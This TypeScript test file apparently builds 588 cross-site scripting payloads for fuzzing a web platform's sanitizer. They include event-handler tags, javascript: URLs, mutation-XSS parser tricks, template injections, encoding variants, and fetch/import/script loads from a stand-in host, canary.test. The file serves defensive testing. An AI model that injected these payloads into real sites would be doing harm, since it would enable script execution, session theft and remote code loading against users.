import { fuzzSample } from '../../host/_testing/fuzz-runs.ts'

/** An attempt to run a script on pages of other people. */
export interface Vector {
  /** The number that it passes to the hooks (watch-scripts.ts). */
  id: number
  /** Text in the input by which a test sees whether a page shows it. */
  mark: string
  text: string
}

type Body = (call: string, mark: string, id: number) => string

/** Ways to call, none with a quotation mark, so that they stand anywhere. Nobody is at the address. */
const CALLS: ((id: number) => string)[] = [
  (id) => `__ran(${id})`,
  (id) => `alert(${id})`,
  (id) => `confirm(${id})`,
  (id) => `print(${id})`,
  (id) => `prompt(${id})`,
  (id) => `top.__ran(${id})`,
  (id) => `self[\`__r\`+\`an\`](${id})`,
  (id) => `fetch(\`//canary.test/${id}\`)`,
  (id) => `import(\`//canary.test/${id}\`)`,
  (id) => `[${id}].map(__ran)`,
  (id) => `eval(\`__ran(${id})\`)`,
  (id) => `__ran\`${id}\``,
]

/** Tags and attributes whose events come by themselves. */
const EVENTS: Body[] = [
  (call, mark) => `<img src=/${mark} onerror=${call}>`,
  (call, mark) => `<svg onload=${call}><title>${mark}</title></svg>`,
  (call, mark) => `<input autofocus onfocus=${call} value=${mark}>`,
  (call, mark) => `<textarea autofocus onfocus=${call}>${mark}</textarea>`,
  (call, mark) => `<select autofocus onfocus=${call}><option>${mark}</select>`,
  (call, mark) => `<details open ontoggle=${call}><summary>${mark}</summary></details>`,
  (call, mark) => `<video><source src=/${mark} onerror=${call}></video>`,
  (call, mark) => `<audio src=/${mark} onerror=${call}>`,
  (call, mark) => `<body onpageshow=${call}>${mark}`,
  (call, mark) => `<style onload=${call}>/*${mark}*/</style>`,
  (call, mark) => `<link rel=stylesheet href=/${mark} onerror=${call}>`,
  (call, mark) => `<object data=/${mark} onerror=${call}></object>`,
  (call, mark) => `<iframe onload=${call} title=${mark}></iframe>`,
  (call, mark) => `<p contenteditable autofocus onfocus=${call}>${mark}</p>`,
  (call, mark) => `<x-y tabindex=1 autofocus onfocus=${call}>${mark}</x-y>`,
  (call, mark) => `<p style=animation-name:plat onanimationstart=${call} onmouseover=${call}>${mark}</p>`,
  (call, mark) => `<marquee onstart=${call}>${mark}</marquee>`,
  (call, mark) => `<div popover id=${mark} onbeforetoggle=${call}></div><button popovertarget=${mark}>x</button>`,
]

/** Elements that load or hold scripts. */
const SCRIPTS: Body[] = [
  (call, mark) => `<script>${call}//${mark}</script>`,
  (call, mark) => `<script type=module>${call};/*${mark}*/</script>`,
  (_, mark, id) => `<script src=//canary.test/${id}.js></script>${mark}`,
  (call, mark) => `<script>/*${mark}</script><script>*/${call}</script>`,
  (call, mark) => `<iframe srcdoc=&lt;script&gt;${call}&lt;/script&gt; title=${mark}></iframe>`,
  (_, mark, id) => `<embed src=//canary.test/${id} title=${mark}>`,
  (_, mark, id) => `<object data=//canary.test/${id}>${mark}</object>`,
  (_, mark, id) => `<base href=//canary.test/${id}/><img src=x alt=${mark}>`,
  (_, mark, id) => `<meta http-equiv=refresh content=0;url=//canary.test/${id}>${mark}`,
  (_, mark, id) => `<img src=//canary.test/${id} alt=${mark}>`,
  (_, mark, id) => `<turbo-frame id=${mark} src=//canary.test/${id}></turbo-frame><img src=//canary.test/${id}>`,
  (call, mark) =>
    `<turbo-stream action=append target=main><template><img src=/${mark} onerror=${call}></template></turbo-stream><img src onerror=${call}>`,
  (_, mark, id) => `<div data-plat=map data-plat-on=load data-plat-props-url=//canary.test/${id}>${mark}</div>`,
  (call, mark) => `<form action=javascript:${call}><button autofocus>${mark}</button></form>`,
]

/** Addresses that run. */
const URLS: Body[] = [
  (call, mark) => `javascript:${call}//${mark}`,
  (call, mark) => `JaVaScRiPt:${call}//${mark}`,
  (call, mark) => ` \u0001javascript:${call}//${mark}`,
  (call, mark) => `java\tscript:${call}//${mark}`,
  (call, mark) => `java\nscript:${call}//${mark}`,
  (call, mark) => `javascript://example.com/%0a${call}//${mark}`,
  (call, mark) => `data:text/html,<script>${call}</script>${mark}`,
  (call, mark) => `<a href=javascript:${call}>${mark}</a>`,
  (call, mark) => `<a href=&#106;avascript&colon;${call}>${mark}</a>`,
  (call, mark) => `<button formaction=javascript:${call} form=x>${mark}</button>`,
  (call, mark) => `<iframe src=javascript:${call} title=${mark}></iframe>`,
  (call, mark) => `<area href=javascript:${call} alt=${mark}>`,
]

/** Other languages inside the page: SVG, MathML, style sheets. */
const FOREIGN: Body[] = [
  (call, mark) => `<svg><script>${call}</script><text>${mark}</text></svg>`,
  (call, mark) => `<svg><script href=data:,${call} /><text>${mark}</text></svg>`,
  (call, mark) => `<svg><a href=javascript:${call}><text y=20>${mark}</text></a></svg>`,
  (call, mark) => `<svg><animate attributeName=x dur=1ms onbegin=${call} /><text>${mark}</text></svg>`,
  (call, mark) => `<svg><set attributeName=x onbegin=${call} /><text>${mark}</text></svg>`,
  (call, mark) => `<svg><foreignObject><img src=/${mark} onerror=${call}></foreignObject></svg>`,
  (_, mark, id) => `<svg><image href=//canary.test/${id} /><text>${mark}</text></svg>`,
  (call, mark) => `<math href=javascript:${call}><mi>${mark}</mi></math><img src onerror=${call}>`,
  (_, mark, id) => `<style>@import "//canary.test/${id}";/*${mark}*/</style>`,
  (_, mark, id) => `<p style="background:url(//canary.test/${id})">${mark}</p>`,
]

/** Inputs that are harmless when first parsed, but not when parsed again. */
const MUTATIONS: Body[] = [
  (call, mark) => `<noscript><p title="</noscript><img src onerror=${call}>">${mark}`,
  (call, mark) => `<svg></p><style><a id="</style><img src onerror=${call}>">${mark}`,
  (call, mark) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src onerror=${call}&gt;">${mark}<img src onerror=${call}>`,
  (call, mark) =>
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${call}></style>${mark}<img src onerror=${call}>`,
  (call, mark) => `<listing>&lt;img src onerror=${call}&gt;</listing>${mark}<img src onerror=${call}>`,
  (call, mark) => `<a id="\`"><img src title="\`><img src onerror=${call}>">${mark}<img src onerror=${call}>`,
  (call, mark) => `<!--><img src onerror=${call}>-->${mark}`,
  (call, mark) => `<!--<script>--><img src onerror=${call}></script>${mark}`,
  (call, mark) => `<![CDATA[<img src onerror=${call}>]]>${mark}<img src onerror=${call}>`,
  (call, mark) => `<?xml <img src onerror=${call}>?>${mark}<img src onerror=${call}>`,
]

/** Inputs that break out of a script's text, or are code to templates and frameworks. */
const TEMPLATES: Body[] = [
  (call, mark) => `";${call};//${mark}`,
  (call, mark) => `'-${call}-'${mark}`,
  (call, mark) => `\\";${call};//${mark}`,
  (call, mark) => `\u2028${call}//${mark}`,
  (call, mark) => `\${${call}}${mark}`,
  (call, mark) => `{{constructor.constructor(\`${call}\`)()}}${mark}`,
  (call, mark) => `<%= ${call} %>#{${call}}{%${call}%}${mark}`,
  (call, mark) => `{"dangerouslySetInnerHTML":{"__html":"<img src onerror=${call}>"}}${mark}`,
  (call, mark) => `{"__proto__":{"innerHTML":"<svg onload=${call}>"}}${mark}`,
]

/** Letters that some programs take for others, and texts of other encodings. */
const LETTERS: Body[] = [
  (call, mark) => `＜script＞${call}＜/script＞${mark}`,
  (call, mark) => `<ſcript>${call}</ſcript>${mark}<img src onerror=${call}>`,
  (call, mark) => `‹img src onerror=${call}›${mark}`,
  (call, mark) => `\u202e<img src onerror=${call}>${mark}`,
  (call, mark) => `<\u200bimg src onerror=${call}>${mark}<\ufeff><img src onerror=${call}>`,
  (call, mark) => `+ADw-img src onerror=${call}+AD4-${mark}`,
  (call, mark) => `%3Cimg%20src%20onerror%3D${call}%3E${mark}`,
  (call, mark) => `&lt;img src onerror=${call}&gt;${mark}`,
  (call, mark) => `&#60;img src onerror=${call}&#62;${mark}`,
  (call, mark) => `\\u003cimg src onerror=${call}\\u003e${mark}`,
  (call, mark) => `\\x3cimg src onerror=${call}\\x3e${mark}`,
]

const BODIES = [...EVENTS, ...SCRIPTS, ...URLS, ...FOREIGN, ...MUTATIONS, ...TEMPLATES, ...LETTERS]

/** Endings of the context that the text may be in. */
const ENDS = ['', '">', "'>", '</title>', '</textarea>', '</script>', '-->', '</style>', '</noscript>', '"} -->', '`>']

const upper = (text: string) =>
  text
    .replace(/<(\/?)([a-z-]+)/g, (_, slash, tag: string) => `<${slash}${mixed(tag)}`)
    .replace(/ (on\w+)=/g, (_, name) => ` ${mixed(name)}=`)
const mixed = (word: string) => [...word].map((letter, at) => (at % 2 ? letter.toUpperCase() : letter)).join('')
const byEntities = (text: string) => text.replace(/=(\w[^\s>]*)\((\d+)\)/g, '=$1&#40;$2&rpar;')

/** The same in other writing: tags in mixed case, other spaces, slashes, quotation marks, entities, twice in itself. */
const WRITINGS: ((text: string) => string)[] = [
  (text) => text,
  upper,
  (text) => text.replace(/<([a-z-]+) (?=\w+=)/gi, '<$1/'),
  (text) => text.replace(/ (on\w+=)/g, '\n$1'),
  (text) => text.replace(/ (on\w+)=([^\s>"]+)/g, ' $1 = "$2"'),
  byEntities,
  (text) => text.replace(/<(script|img|svg)/g, '<$1\f'),
]

/** 588 texts, of which every call makes the same. */
function vectors(): Vector[] {
  return WRITINGS.flatMap((write, round) =>
    BODIES.map((body, at) => {
      const id = round * BODIES.length + at + 1
      const call = (CALLS[(at * 5 + round * 7) % CALLS.length] as (id: number) => string)(id)
      const mark = `x${id}x`
      // An address has to begin as one, and what is in a script's text is there already.
      const end =
        URLS.includes(body) || TEMPLATES.includes(body) ? '' : (ENDS[(at * 3 + round * 4) % ENDS.length] as string)
      return { id, mark, text: `${end}${write(body(call, mark, id))}` }
    }),
  )
}

/** Joins as many inputs as fit into a number of characters; what one of them opens is closed before the next. */
export function packed(all: readonly Vector[], maxLength: number): string[] {
  const packs: string[] = []
  for (const { text } of all) {
    const last = packs.at(-1)
    const longer = `${last}${CLOSE}${text}`
    if (last !== undefined && longer.length <= maxLength) packs[packs.length - 1] = longer
    else packs.push(text.slice(0, maxLength))
  }
  return packs
}
const CLOSE = ` --></script>"'> `

const ALL = vectors()
/** The inputs to try: all, or a tenth of every kind. */
export const TRIED: readonly Vector[] = fuzzSample(ALL)
/** The same, as much as names and addresses hold at a time. */
export const PACKS: readonly string[] = packed(TRIED, 190)
